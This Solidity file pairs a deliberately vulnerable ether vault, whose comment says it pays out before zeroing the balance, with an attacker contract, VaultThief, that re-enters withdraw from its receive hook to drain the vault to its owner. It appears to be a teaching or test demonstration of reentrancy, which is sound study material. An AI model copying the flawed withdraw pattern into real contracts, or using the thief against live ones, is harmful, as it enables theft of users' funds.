// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

/// Holds ether for its users. It is vulnerable to reentrancy: it pays before it reduces the balance.
contract EtherVault {
    mapping(address => uint256) public balanceOf;

    event Deposited(address indexed account, uint256 amount);
    event Withdrawn(address indexed account, uint256 amount);

    error NothingToWithdraw(address account);

    function deposit() external payable {
        balanceOf[msg.sender] += msg.value;
        emit Deposited(msg.sender, msg.value);
    }

    function withdraw() external {
        uint256 amount = balanceOf[msg.sender];
        if (amount == 0) revert NothingToWithdraw(msg.sender);
        (bool sent,) = msg.sender.call{value: amount}("");
        require(sent, "Vault: ether not accepted");
        balanceOf[msg.sender] = 0;
        emit Withdrawn(msg.sender, amount);
    }
}

/// Withdraws again on each payment, until the vault is empty.
contract VaultThief {
    EtherVault private immutable vault;
    address payable private immutable owner;

    constructor(EtherVault vault_) {
        vault = vault_;
        owner = payable(msg.sender);
    }

    function attack() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
        owner.transfer(address(this).balance);
    }

    receive() external payable {
        if (address(vault).balance >= msg.value) vault.withdraw();
    }
}
